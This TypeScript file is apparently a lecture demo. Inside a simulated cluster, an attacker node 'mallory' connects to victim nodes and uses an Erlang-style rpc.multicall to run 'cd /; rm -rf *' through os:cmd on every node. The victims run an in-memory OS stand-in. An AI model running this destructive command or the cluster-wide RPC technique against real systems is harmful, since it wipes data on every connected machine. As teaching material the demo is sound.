/** The attack of the lecture: one call, and every disk of the cluster is empty. They are in memory. */
import { charlist, memoryOs, nodes, register, rpc, self } from "#runtime";
import { type Events, played } from "./recorded.ts";

const atom = Symbol.for;

export function attack(): Promise<Events> {
  return played(async (cluster, begin) => {
    const mallory = await cluster.start("mallory");
    for (const name of ["sif", "amora"]) {
      const victim = await cluster.start(name);
      victim.load("os", memoryOs());
      await mallory.run(() => rpc.call(victim.name, atom("erlang"), atom("node"), []));
    }
    await cluster.pass(1000);
    begin();
    await mallory.run(async () => {
      register(atom("shell"), self());
      const command = charlist("cd /; rm -rf *");
      await rpc.multicall(nodes(), atom("os"), atom("cmd"), [command]);
    });
  });
}
